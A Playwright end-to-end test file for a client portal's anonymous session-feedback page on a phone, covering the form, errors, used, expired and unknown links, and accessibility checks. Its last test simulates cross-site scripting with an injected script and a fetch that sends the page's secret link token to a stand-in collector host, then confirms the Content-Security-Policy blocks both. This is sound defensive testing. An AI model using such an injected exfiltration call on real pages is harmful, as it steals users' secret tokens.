import { createHash, randomBytes } from 'node:crypto';
import { DEFAULT_SESSION_FEEDBACK } from '@lena/domain';
import { Client } from 'pg';
import type { Page } from 'playwright-core';
import { accessibilityViolations } from './support/accessibility';
import { settled, withPage } from './support/browser';
import { startStack, type Stack } from './support/stack';

const PHONE = { width: 375, height: 800 };

/**
 * The anonymous feedback page on a 375 px phone, served by the built client portal and answered
 * by the real API: the form, its errors, the thanks, and the pages for a spent, expired and
 * unknown link, each axe-clean (WCAG 2.2 AA) and no wider than the phone. The request and links
 * are written here as the worker writes them once sessions are delivered, so no worker runs beside them.
 */
describe('the feedback page on a phone', () => {
  let stack: Stack;
  let owner: Client;
  let open: string;
  let expired: string;

  /** A single-use link for a demo participant to the request, its secret returned. */
  async function link(requestId: string, tenantId: string, email: string): Promise<string> {
    const token = randomBytes(32).toString('base64url');
    await owner.query(
      `WITH l AS (INSERT INTO feedback_link (tenant_id, request_id, user_id, token_hash) SELECT $1, $2, id, $3 FROM user_account WHERE email = $4 RETURNING tenant_id, id)
       INSERT INTO feedback_link_unspent (tenant_id, link_id) SELECT tenant_id, id FROM l`,
      [tenantId, requestId, createHash('sha256').update(token).digest(), email],
    );
    return token;
  }

  beforeAll(async () => {
    // No worker: its sweeps would open requests for the same demo sessions and programme, racing these.
    stack = await startStack({ worker: false });
    owner = new Client({ connectionString: stack.database.ownerUrl });
    await owner.connect();
    // The post-session form, unless the demo seed (its finished programmes' feedback) stored it already.
    await owner.query(`INSERT INTO feedback_instrument (key, version, licence, definition) VALUES ($1, $2, $3, $4) ON CONFLICT (key, version) DO NOTHING`, [
      DEFAULT_SESSION_FEEDBACK.key,
      DEFAULT_SESSION_FEEDBACK.version,
      DEFAULT_SESSION_FEEDBACK.licence,
      JSON.stringify(DEFAULT_SESSION_FEEDBACK),
    ]);
    const { rows: instruments } = await owner.query<{ id: string }>('SELECT id FROM feedback_instrument WHERE key = $1 AND version = $2', [
      DEFAULT_SESSION_FEEDBACK.key,
      DEFAULT_SESSION_FEEDBACK.version,
    ]);
    // Two of the demo's held sessions in Northshire: one still open for feedback, one whose window has closed.
    const { rows: sessions } = await owner.query<{ id: string; tenant_id: string }>(
      `SELECT s.id, s.tenant_id FROM group_session s JOIN user_account u ON u.email = 'sam@northshire-cp.test'
         JOIN enrolment e ON e.tenant_id = s.tenant_id AND e.programme_id = s.programme_id AND e.user_id = u.id
        WHERE s.starts_at < now() ORDER BY s.starts_at DESC LIMIT 2`,
    );
    expect(sessions).toHaveLength(2);
    const request = async (sessionId: string, tenantId: string, closesInDays: number) =>
      (
        await owner.query<{ id: string }>(
          `INSERT INTO feedback_request (tenant_id, session_id, instrument_id, opens_at, remind_at, closes_at)
           VALUES ($1, $2, $3, now() - interval '8 days', now() - interval '8 days', now() + make_interval(days => $4)) RETURNING id`,
          [tenantId, sessionId, instruments[0]!.id, closesInDays],
        )
      ).rows[0]!.id;
    open = await link(await request(sessions[0]!.id, sessions[0]!.tenant_id, 5), sessions[0]!.tenant_id, 'sam@northshire-cp.test');
    expired = await link(await request(sessions[1]!.id, sessions[1]!.tenant_id, -1), sessions[1]!.tenant_id, 'sam@northshire-cp.test');
  });

  afterAll(async () => {
    await owner?.end();
    await stack?.stop();
  });

  /** Records, from before the page's first script, every directive of its Content-Security-Policy that refused something: read with `refused`. */
  const watchRefusals = async (page: Page): Promise<void> => {
    await page.addInitScript('window.lenaRefused = []; document.addEventListener("securitypolicyviolation", (event) => window.lenaRefused.push(event.effectiveDirective));');
  };
  const refused = (page: Page): Promise<string[]> => page.evaluate('window.lenaRefused') as Promise<string[]>;

  const overflow = (page: Page): Promise<number> => page.evaluate(`Math.max(document.documentElement.scrollWidth, document.body.scrollWidth) - ${PHONE.width}`) as Promise<number>;

  async function expectAccessible(page: Page): Promise<void> {
    await settled(page);
    expect(await accessibilityViolations(page)).toEqual([]);
    expect(await overflow(page)).toBeLessThanOrEqual(0);
  }

  it('takes one set of answers from a phone, then refuses the link as already used', async () => {
    await withPage(async (page) => {
      await page.setViewportSize(PHONE);
      await watchRefusals(page);
      await page.goto(`${stack.clientPortalUrl}/feedback.html#${open}`);
      await page.getByRole('heading', { level: 1, name: 'How was this session for you?' }).waitFor();
      await expectAccessible(page);

      await page.getByRole('button', { name: 'Send feedback' }).click();
      await page.getByRole('alert').getByText('There is a problem').waitFor();
      await expectAccessible(page);

      for (const item of DEFAULT_SESSION_FEEDBACK.items) {
        if (item.kind === 'SCALE') await page.getByRole('group', { name: item.prompt }).getByText(item.options[3]!.label, { exact: true }).click();
      }
      await page.getByLabel('What will you take away from this session?').fill('Taking a breath before the next call.');
      await page.getByRole('button', { name: 'Send feedback' }).click();
      await page.getByRole('heading', { level: 1, name: 'Thank you' }).waitFor();
      await expectAccessible(page);

      const { rows } = await owner.query<{ answers: Record<string, unknown> }>(
        `SELECT answers FROM feedback_response WHERE answers->>'take_away' = 'Taking a breath before the next call.'`,
      );
      expect(rows).toEqual([
        { answers: { safe_to_share: 4, useful_for_practice: 4, held_well: 4, protected_time: 4, feel_about_work: 4, take_away: 'Taking a breath before the next call.' } },
      ]);

      // The whole form, its errors and its thanks, under the page's Content-Security-Policy.
      expect(await refused(page)).toEqual([]);

      // Opening the same link again (a reload: the address has not changed).
      await page.reload();
      await page.getByRole('heading', { level: 1, name: 'You have already given feedback' }).waitFor();
      await expectAccessible(page);
    });
  });

  it.each([
    ['an expired link', () => expired, 'This feedback link has expired'],
    ['an unknown link', () => randomBytes(32).toString('base64url'), 'We do not recognise this link'],
  ])('opens a clear page for %s', async (_what, token, title) => {
    await withPage(async (page) => {
      await page.setViewportSize(PHONE);
      await page.goto(`${stack.clientPortalUrl}/feedback.html#${token()}`);
      await page.getByRole('heading', { level: 1, name: title }).waitFor();
      await expectAccessible(page);
    });
  });

  it('runs its own early form call, and refuses a script or a call an attacker injects', async () => {
    await withPage(async (page) => {
      await page.setViewportSize(PHONE);
      await watchRefusals(page);
      await page.goto(`${stack.clientPortalUrl}/feedback.html#${randomBytes(32).toString('base64url')}`);
      await page.getByRole('heading', { level: 1, name: 'We do not recognise this link' }).waitFor();
      // Nothing of the page's own was refused: its inline early call is allowed by its hash.
      expect(await refused(page)).toEqual([]);
      // Injected as a cross-site script would be: an inline script, then a call carrying the page's secret elsewhere.
      const injected = await page.evaluate(`new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve({ refused: event.effectiveDirective, ran: window.lenaInjected === true }), { once: true });
        const script = document.createElement('script');
        script.textContent = 'window.lenaInjected = true';
        document.head.append(script);
        if (window.lenaInjected === true) resolve({ refused: null, ran: true });
      })`);
      expect(injected).toEqual({ refused: 'script-src-elem', ran: false });
      const sent = await page.evaluate(`new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve({ refused: event.effectiveDirective, to: new URL(event.blockedURI).origin }), { once: true });
        fetch('http://127.0.0.1:9/collect?secret=' + encodeURIComponent(location.hash)).then(() => resolve({ refused: null }), () => {});
      })`);
      expect(sent).toEqual({ refused: 'connect-src', to: 'http://127.0.0.1:9' });
    });
  });
});
